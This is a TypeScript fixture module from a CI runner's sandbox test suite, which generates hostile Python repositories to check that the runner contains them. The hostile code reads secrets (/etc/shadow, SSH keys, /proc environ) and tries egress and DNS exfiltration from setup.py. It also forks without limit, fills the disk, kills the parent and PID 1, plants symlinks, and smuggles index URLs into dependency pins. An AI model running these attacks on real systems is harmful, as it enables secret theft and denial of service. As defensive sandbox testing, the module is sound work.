import { fillEveryWritablePlace } from './fillDisk.js';
import type { Files } from './fixtureRepo.js';
import { cleanProject } from './pythonProject.js';

/** What a hostile repository is told about the host it runs on: the places it will try to reach. */
export interface HostFacts {
  cacheDir: string;
  workDir: string;
  artefactDir: string;
  runnerSource: string;
  runnerPid: number;
  redisPort: number;
  kafkaPort: number;
  /** A name no other run uses, for the files and processes the hostile code tries to leave behind. */
  marker: string;
  /** Files outside the build holding the canary (their paths, never their content, are in the repository). */
  canaryFiles: string[];
  /** A root-owned directory outside the build (and its one file) that links planted by a build point at. */
  canaryDir: string;
  canaryDirFile: string;
  /** Hosts in the test's own network namespace, and names its resolver (BUILD_EGRESS_DNS) answers. */
  egress: {
    service: string;
    web: string;
    redisPort: number;
    /** A host that is not the index, by name. */
    internetHost: string;
    /** Names BUILD_EGRESS_ALLOW allows that resolve to 127.0.0.1 and to 169.254.169.254. */
    rebinding: string[];
  };
  /** The disk each build may fill (BUILD_DISK_MB, or this case's own lower `disk-mb`). */
  diskMb: number;
}

/** One hostile repository and what the runner must make of it. */
export interface HostileCase {
  name: string;
  files: Files;
  links?: Array<[string, string]>;
  status: 'PASSED' | 'FAILED';
  /** The report must say why: this must appear in its error or failed tests. */
  reason?: RegExp;
}

const py = (...lines: string[]) => `${lines.join('\n')}\n`;

// Records what each attack achieved in $CI_RUNNER_KEEP/attacks.txt (the artefact's outputs/attacks.txt).
function probe(facts: HostFacts): string {
  return py(
    'import json',
    'import os',
    'import socket',
    '',
    `FACTS = json.loads(${JSON.stringify(JSON.stringify(facts))})`,
    '',
    '',
    'def record(what, outcome):',
    '    with open(os.path.join(os.environ["CI_RUNNER_KEEP"], "attacks.txt"), "a") as f:',
    '        f.write(f"{what}\\t{outcome}\\n")',
    '',
    '',
    'def try_write(path):',
    '    try:',
    '        with open(path, "a") as f:',
    '            f.write("hostile\\n")',
    '        record(path, "WROTE")',
    '    except OSError as error:',
    '        record(path, f"blocked {type(error).__name__}")',
    '',
    '',
    'def try_services(where):',
    '    for host in ("127.0.0.1", "10.0.2.2", "::1"):',
    '        for port in (FACTS["redisPort"], FACTS["kafkaPort"]):',
    '            family = socket.AF_INET6 if ":" in host else socket.AF_INET',
    '            s = socket.socket(family)',
    '            s.settimeout(2)',
    '            try:',
    '                s.connect((host, port))',
    '                s.sendall(b"FLUSHALL\\r\\n")',
    '                record(f"{where} {host}:{port}", "CONNECTED")',
    '            except OSError as error:',
    '                record(f"{where} {host}:{port}", f"blocked {type(error).__name__}")',
    '            finally:',
    '                s.close()',
  );
}

function hostileTest(facts: HostFacts, ...body: string[]): Files {
  return {
    ...cleanProject(),
    'pyproject.toml': pyproject(),
    'tests/probe.py': probe(facts),
    'tests/test_hostile.py': py(
      'import os',
      'import subprocess',
      'import sys',
      'import time',
      '',
      'import pytest',
      '',
      'sys.path.insert(0, os.path.dirname(__file__))',
      'from probe import FACTS, record, try_services, try_write  # noqa: E402',
      '',
      '',
      ...body,
    ),
  };
}

/** The clean project's pyproject.toml with lint off (the attacks are not formatted for black) and more tables. */
function pyproject(...more: string[]): string {
  return `${cleanProject()['pyproject.toml']}\n[tool.ci-runner]\nlint = false\n${more.join('\n')}\n`;
}

// The repository lowers its own limits (so the attack ends sooner; the runner's defaults are proved elsewhere).
const withLimits =
  (...settings: string[]) =>
  (files: Files): Files => ({
    ...files,
    'pyproject.toml': pyproject().replace('lint = false', ['lint = false', ...settings].join('\n')),
  });

// The repository's own pytest arguments (say -s, so what a test writes reaches the run's own stderr).
const withArgs =
  (...args: string[]) =>
  (files: Files): Files => ({
    ...files,
    'pyproject.toml': pyproject().replace(
      'lint = false',
      `lint = false\npytest-args = ${JSON.stringify(args)}`,
    ),
  });

const withSix = (files: Files): Files => ({
  ...cleanProject(),
  'pyproject.toml': pyproject(),
  'requirements.txt': 'six==1.17.0\n',
  ...files,
});

// A fast test that checks the installed six against its own wheel's RECORD: the package is the genuine one.
export function genuineSixTest(): Files {
  return {
    'tests/test_genuine.py': py(
      'import base64',
      'import hashlib',
      'import importlib.metadata',
      '',
      'import pytest',
      '',
      '',
      '@pytest.mark.fast',
      'def test_six_is_the_genuine_wheel():',
      '    import six',
      '',
      '    files = importlib.metadata.distribution("six").files',
      '    entry = next(f for f in files if f.name == "six.py")',
      '    with open(six.__file__, "rb") as handle:',
      '        digest = hashlib.sha256(handle.read()).digest()',
      '    encoded = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()',
      '    assert entry.hash.value == encoded',
      '    with open(six.__file__) as handle:',
      '        assert "hostile" not in handle.read()',
    ),
  };
}

// Every attack the suite makes, each as its own repository.
export function hostileCases(
  facts: HostFacts,
  scale: { bigFileGiB: number; memoryGiB: number },
): HostileCase[] {
  const outside = [
    `/tmp/${facts.marker}`,
    `${facts.workDir}/${facts.marker}`,
    `/etc/${facts.marker}`,
    `/root/${facts.marker}`,
    `/usr/${facts.marker}`,
    `${facts.cacheDir}/${facts.marker}`,
    `${facts.cacheDir}/envs/${facts.marker}`,
    `${facts.artefactDir}/${facts.marker}`,
    `${facts.runnerSource}/${facts.marker}`,
  ];
  return [
    {
      name: 'read-secrets',
      status: 'PASSED',
      files: withSix(
        hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_read_what_the_runner_has():',
          '    seen = [repr(dict(os.environ))]',
          '    for name in os.listdir("/proc"):',
          '        for part in ("environ", "cmdline"):',
          '            try:',
          '                seen.append(open(f"/proc/{name}/{part}", "rb").read().decode("latin1"))',
          '            except OSError:',
          '                pass',
          '    record("/proc pids", " ".join(sorted(n for n in os.listdir("/proc") if n.isdigit())))',
          '    targets = FACTS["canaryFiles"] + [FACTS["runnerSource"] + "/package.json", "/root/.ssh/id_rsa", "/etc/shadow"]',
          '    for path in targets:',
          '        try:',
          '            seen.append(open(path).read())',
          '            record(path, "READ")',
          '        except OSError as error:',
          '            record(path, f"blocked {type(error).__name__}")',
          '    for path in (FACTS["cacheDir"], FACTS["runnerSource"], FACTS["workDir"], FACTS["artefactDir"], "/root"):',
          '        try:',
          '            record(path, "LISTED " + ",".join(sorted(os.listdir(path))))',
          '        except OSError as error:',
          '            record(path, f"blocked {type(error).__name__}")',
          '    # Everything it could read goes where a careless runner would publish it.',
          '    print("\\n".join(seen))',
          '    with open("stolen.txt", "w") as handle:',
          '        handle.write("\\n".join(seen))',
        ),
      ),
    },
    {
      name: 'write-outside',
      status: 'PASSED',
      files: withSix(
        hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_write_everywhere():',
          `    for path in ${JSON.stringify(outside)}:`,
          '        try_write(path)',
          '    import six',
          '',
          '    try_write(six.__file__)',
          '    import sysconfig',
          '',
          '    try_write(os.path.join(sysconfig.get_paths()["purelib"], "hostile.pth"))',
          '    # Remounting the read-only environment writable from a new user namespace.',
          '    shell = f"mount -o remount,rw,bind {os.path.dirname(six.__file__)} && echo hostile >> {six.__file__}"',
          '    done = subprocess.run(["unshare", "-rm", "sh", "-c", shell], capture_output=True)',
          '    record("remount", "WROTE" if done.returncode == 0 else "blocked")',
        ),
      ),
    },
    {
      name: 'poison-from-install-and-tests',
      status: 'PASSED',
      files: withSix({
        ...hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_reach_services_and_caches():',
          '    try_services("test")',
          '    try_write(FACTS["cacheDir"] + "/uv/hostile")',
        ),
        'pyproject.toml': pyproject(
          '[build-system]',
          'requires = ["setuptools>=61"]',
          'build-backend = "setuptools.build_meta"',
        ),
        'setup.py': py(
          'import os',
          'import sys',
          '',
          'sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests"))',
          'from probe import FACTS, try_services, try_write  # noqa: E402',
          'from setuptools import setup  # noqa: E402',
          '',
          'try_services("setup.py")',
          'for path in (FACTS["cacheDir"] + "/uv/hostile", FACTS["cacheDir"] + "/envs/hostile"):',
          '    try_write(path)',
          'setup(name="hostile-calc", version="0.1", packages=["calc"])',
        ),
      }),
    },
    {
      // While installing, setup.py tries every way out: the test hosts directly and through the proxy, a host
      // that is not the index by name, allowed names that resolve to loopback and to the metadata service, data in
      // a name, plain HTTP. Every one is refused, the index still serves six, and the tests decide the verdict.
      name: 'egress-from-setup-py',
      status: 'PASSED',
      files: withSix({
        ...hostileTest(facts, '@pytest.mark.fast', 'def test_passes():', '    assert True'),
        'pyproject.toml': pyproject(
          '[build-system]',
          'requires = ["setuptools>=61"]',
          'build-backend = "setuptools.build_meta"',
        ),
        'setup.py': py(
          'import http.client',
          'import os',
          'import socket',
          'import sys',
          'import urllib.parse',
          'import urllib.request',
          '',
          'sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests"))',
          'from probe import FACTS, record  # noqa: E402',
          'from setuptools import setup  # noqa: E402',
          '',
          'HOSTS = FACTS["egress"]',
          'MARK = FACTS["marker"]',
          'PROXY = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:3128"))',
          '',
          '',
          'def direct(host, port):',
          '    s = socket.socket()',
          '    s.settimeout(3)',
          '    try:',
          '        s.connect((host, port))',
          '        s.sendall(b"FLUSHALL\\r\\n")',
          '        record(f"direct {host}:{port}", "CONNECTED")',
          '    except OSError as error:',
          '        record(f"direct {host}:{port}", f"blocked {type(error).__name__}")',
          '    finally:',
          '        s.close()',
          '',
          '',
          'def tunnel(host, port):',
          '    c = http.client.HTTPConnection(PROXY.hostname, PROXY.port, timeout=15)',
          '    c.set_tunnel(host, port)',
          '    try:',
          '        c.connect()',
          '        c.sock.sendall(b"FLUSHALL\\r\\n")',
          '        record(f"proxy {host}:{port}", "CONNECTED")',
          '    except OSError as error:',
          '        record(f"proxy {host}:{port}", f"blocked {error}")',
          '    finally:',
          '        c.close()',
          '',
          '',
          'def plain(url):',
          '    try:',
          '        urllib.request.urlopen(url, timeout=15).read()',
          '        record(f"http {url}", "SENT")',
          '    except Exception as error:',
          '        record(f"http {url}", f"blocked {error}")',
          '',
          '',
          'def lookup(name):',
          '    try:',
          '        record(f"dns {name}", f"SENT {socket.getaddrinfo(name, 443)}")',
          '    except OSError as error:',
          '        record(f"dns {name}", f"blocked {type(error).__name__}")',
          '',
          '',
          'direct(HOSTS["service"], HOSTS["redisPort"])',
          'direct(HOSTS["web"], 80)',
          'tunnel(HOSTS["service"], HOSTS["redisPort"])',
          'tunnel(HOSTS["web"], 80)',
          'tunnel(HOSTS["internetHost"], 443)',
          'for name in HOSTS["rebinding"]:',
          '    tunnel(name, 443)',
          'tunnel(f"exfil-{MARK}.{HOSTS[\'internetHost\']}", 443)',
          'plain(f"http://{HOSTS[\'web\']}/{MARK}")',
          'plain(f"http://{HOSTS[\'internetHost\']}/{MARK}")',
          'lookup(f"dns-{MARK}.{HOSTS[\'internetHost\']}")',
          'setup(name="hostile-calc", version="0.1", packages=["calc"])',
        ),
      }),
    },
    {
      // Files below the file-size limit in every place a build may write, until the build's disk is full.
      name: 'fill-the-disk',
      status: 'FAILED',
      reason: new RegExp(`disk limit of ${facts.diskMb} MiB reached`),
      files: {
        ...hostileTest(
          facts,
          ...fillEveryWritablePlace(1000, 48, [
            'record(f"fill {place}", f"stopped {type(error).__name__} after {n} files")',
          ]),
        ),
        'pyproject.toml': pyproject(`disk-mb = ${facts.diskMb}`),
      },
    },
    {
      name: 'fork-bomb',
      status: 'FAILED',
      reason: /process limit of \d+ reached|Resource temporarily unavailable|BlockingIOError|TIMEOUT/,
      files: withLimits(
        'max-processes = 64',
        'test-timeout-sec = 120',
      )(
        hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_fork_bomb():',
          '    bomb = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\n"',
          '    subprocess.Popen([sys.executable, "-c", bomb])',
          '    time.sleep(3)',
          '    subprocess.run(["true"], check=True)',
        ),
      ),
    },
    {
      name: 'allocate-memory',
      status: 'FAILED',
      reason: /memory limit of \d+ MiB reached|MemoryError|killed by SIGKILL/,
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        `def test_allocate_${scale.memoryGiB}_gib():`,
        `    hog = b"x" * (${scale.memoryGiB} << 30)`,
        '    assert len(hog) > 0',
      ),
    },
    {
      name: 'huge-file',
      status: 'FAILED',
      reason: /test_write_a_huge_file|SIGXFSZ/,
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_write_a_huge_file():',
        '    chunk = b"\\0" * (1 << 20)',
        '    with open("huge.bin", "wb") as handle:',
        `        for _ in range(${scale.bigFileGiB} << 10):`,
        '            handle.write(chunk)',
      ),
    },
    {
      name: 'daemon',
      status: 'PASSED',
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_leave_a_daemon():',
        '    if os.fork() == 0:',
        '        os.setsid()',
        '        if os.fork() == 0:',
        `            os.execvp("sleep", ["sleep", "${daemonSeconds(facts)}"])`,
        '        os._exit(0)',
        '    time.sleep(0.5)',
      ),
    },
    {
      name: 'kill-parent',
      status: 'PASSED',
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_kill_what_it_can():',
        '    import signal',
        '',
        '    for pid in (os.getppid(), 1, FACTS["runnerPid"]):',
        '        try:',
        '            os.kill(pid, signal.SIGKILL)',
        '            record(f"kill {pid}", "SENT")',
        '        except OSError as error:',
        '            record(f"kill {pid}", f"blocked {type(error).__name__}")',
        '    try:',
        '        os.kill(-1, signal.SIGKILL)',
        '    except OSError:',
        '        pass',
      ),
    },
    {
      name: 'flood-stdout',
      status: 'PASSED',
      files: {
        ...hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_flood_stdout():',
          '    line = b"flood " * 170 + b"\\n"',
          '    for _ in range(200_000):',
          '        os.write(1, line)',
        ),
        'pyproject.toml': pyproject().replace('lint = false', 'lint = false\npytest-args = ["-s"]'),
      },
    },
    {
      // The keep directory itself swapped for a link to a host directory after the runner made it.
      name: 'swap-keep-for-a-link',
      status: 'PASSED',
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_swap_keep():',
        '    import shutil',
        '',
        '    keep = os.environ["CI_RUNNER_KEEP"]',
        '    shutil.rmtree(keep)',
        '    os.symlink(FACTS["canaryDir"], keep)',
      ),
    },
    {
      // Links inside the keep directory: to a host directory, a host file, and a plain file beside them.
      name: 'links-inside-keep',
      status: 'PASSED',
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_links_in_keep():',
        '    keep = os.environ["CI_RUNNER_KEEP"]',
        '    os.symlink(FACTS["canaryDir"], os.path.join(keep, "dir"))',
        '    os.symlink(FACTS["canaryDirFile"], os.path.join(keep, "file"))',
        '    os.makedirs(os.path.join(keep, "sub"))',
        '    os.symlink(FACTS["canaryDir"], os.path.join(keep, "sub", "deeper"))',
        '    with open(os.path.join(keep, "plain.txt"), "w") as handle:',
        '        handle.write("kept\\n")',
      ),
    },
    {
      // The install plants links where the runner later writes and hands over: the old selection directory, the
      // keep directory, the venv; the tests then plant them in the selection's own directory.
      name: 'install-plants-links',
      // Its own run then writes lines.json through the link it planted, where nothing is: its own failure.
      status: 'FAILED',
      reason: /lines\.json/,
      files: {
        ...hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_plant_in_selection():',
          '    selection = os.environ.get("CI_RUNNER_AFFECTED_OUT")',
          '    if selection:',
          '        for name in (".testmondata", "lines.json", "selection.json"):',
          '            path = os.path.join(selection, name)',
          '            if os.path.lexists(path):',
          '                os.remove(path)',
          '            os.symlink(FACTS["canaryDirFile"], path)',
        ),
        'pyproject.toml': pyproject(
          'select = "affected"',
          '[build-system]',
          'requires = ["setuptools>=61"]',
          'build-backend = "setuptools.build_meta"',
        ),
        'setup.py': py(
          'import os',
          'import shutil',
          '',
          'from setuptools import setup',
          '',
          `CANARY = ${JSON.stringify(facts.canaryDir)}`,
          'for where in ("/ci/out/affected", "/ci/out/keep", os.path.join(os.environ.get("VIRTUAL_ENV", "/ci/env"), "planted")):',
          '    try:',
          '        if os.path.isdir(where) and not os.path.islink(where):',
          '            shutil.rmtree(where)',
          '        elif os.path.lexists(where):',
          '            os.remove(where)',
          '        os.symlink(CANARY, where)',
          '    except OSError:',
          '        pass',
          'setup(name="hostile-calc", version="0.1", packages=["calc"])',
        ),
      },
    },
    {
      // The kernel interfaces the seccomp filter closes: the test fails if any of them is open.
      name: 'seccomp-denies',
      status: 'PASSED',
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_kernel_interfaces_are_closed():',
        '    import ctypes',
        '    import errno',
        '',
        '    libc = ctypes.CDLL(None, use_errno=True)',
        '    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]',
        '    assert libc.syscall(keyctl, 0, 0, 0, 0, 0) == -1',
        '    assert ctypes.get_errno() == errno.EPERM',
        '    CLONE_NEWUSER = 0x10000000',
        '    assert libc.unshare(CLONE_NEWUSER) == -1',
        '    assert ctypes.get_errno() == errno.EPERM',
        '    done = subprocess.run(["unshare", "-r", "true"], capture_output=True, text=True)',
        '    assert done.returncode != 0 and "Operation not permitted" in done.stderr, done.stderr',
        '    # Processes and threads still start (clone without new namespaces).',
        '    assert subprocess.run([sys.executable, "-c", "import threading"]).returncode == 0',
      ),
    },
    {
      // A test that prints what bubblewrap prints when it cannot start, and fails: its own failure, not retried.
      name: 'imitates-the-sandbox',
      status: 'FAILED',
      reason: /test_pretend_the_sandbox_failed/,
      files: withArgs('-s')(
        hostileTest(
          facts,
          '@pytest.mark.fast',
          'def test_pretend_the_sandbox_failed():',
          '    os.write(2, b"bwrap: loopback: Failed RTM_NEWADDR: No child processes\\n")',
          '    assert False',
        ),
      ),
    },
    {
      // Pins that would have the runner install from elsewhere, or something other than an exact ruff or black:
      // none is used (lint runs the runner's own versions), and nothing but exact versions is ever installed.
      name: 'pins-to-install-anything',
      status: 'PASSED',
      files: {
        ...cleanProject(),
        'pyproject.toml': [
          '[tool.pytest.ini_options]',
          'pythonpath = ["."]',
          'markers = ["fast: quick tests"]',
          '',
          '[dependency-groups]',
          'lint = [',
          '  "ruff @ http://10.0.2.2:1/ruff-0.15.9-py3-none-any.whl",',
          '  "black==24.1.0 --extra-index-url http://10.0.2.2:1/simple",',
          '  "black==24.*",',
          '  "ruff===0.15.9",',
          '  "evil==1.0",',
          ']',
          '',
        ].join('\n'),
        '.pre-commit-config.yaml': py(
          'repos:',
          '  - repo: https://github.com/astral-sh/ruff-pre-commit',
          '    rev: "v0.15.9 --index-url http://10.0.2.2:1/simple"',
          '    hooks:',
          '      - id: ruff-format',
          '  - repo: https://github.com/psf/black',
          '    rev: main',
          '    hooks:',
          '      - id: black',
          '  - repo: https://github.com/evil/ruff-pre-commit-with-a-twist',
          '    rev: v1.0.0',
          '    hooks:',
          '      - id: ruff-format',
        ),
        'requirements-lint.txt':
          '--index-url http://10.0.2.2:1/simple\n-e git+http://10.0.2.2:1/ruff#egg=ruff\n',
      },
    },
    {
      name: 'symlinks-out',
      status: 'PASSED',
      links: [
        ['passwd', '/etc/passwd'],
        ['canary', facts.canaryFiles[0] ?? '/root'],
        ['requirements.txt', facts.canaryFiles[0] ?? '/root'],
      ],
      files: hostileTest(
        facts,
        '@pytest.mark.fast',
        'def test_read_through_links():',
        '    for link in ("passwd", "canary", "requirements.txt"):',
        '        try:',
        '            record(link, "CONTENT " + open(link).read().replace("\\n", " ")[:200])',
        '        except OSError as error:',
        '            record(link, f"blocked {type(error).__name__}")',
      ),
    },
  ];
}

/** The unique `sleep` a daemon case leaves behind, to look for on the host afterwards. */
export function daemonSeconds(facts: HostFacts): string {
  return `9${facts.marker.replace(/\D/g, '').slice(0, 7).padEnd(7, '1')}`;
}
